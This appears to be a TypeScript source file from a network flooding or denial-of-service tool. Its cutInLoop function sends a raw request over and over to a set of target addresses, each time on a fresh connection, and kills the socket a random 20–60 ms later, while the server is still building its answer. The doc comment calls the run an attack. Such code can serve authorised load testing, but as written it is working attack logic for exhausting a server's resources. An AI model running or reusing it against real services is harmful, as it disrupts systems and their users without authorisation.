import { setTimeout as sleep } from "node:timers/promises";
import { floodInLoop } from "./flood";
import type { Scene } from "./scene";

/** Time after which a request is cut: its answer is being made. */
const CUT_AFTER_MS = { least: 20, most: 60 };

/**
 * Sends a request again and again until the attack is over, each time on a connection of its own, which it
 * closes before the answer.
 *
 * @param bytes - the request, each character as one byte
 */
export async function cutInLoop(scene: Scene, addresses: string[], bytes: string): Promise<void> {
  const { job, random } = scene;
  const { least, most } = CUT_AFTER_MS;
  let cut = 0;
  await floodInLoop(scene, job.small ? 3 : 20, async (n) => {
    const socket = await scene.connect(addresses[n % addresses.length] ?? "");
    if (socket) cut++;
    socket?.write(bytes, "latin1");
    await sleep(least + random() * (most - least));
    socket?.destroy();
  });
  if (cut === 0) scene.fault("no request could be sent");
  scene.result.facts.push(`${cut} requests cut`);
}
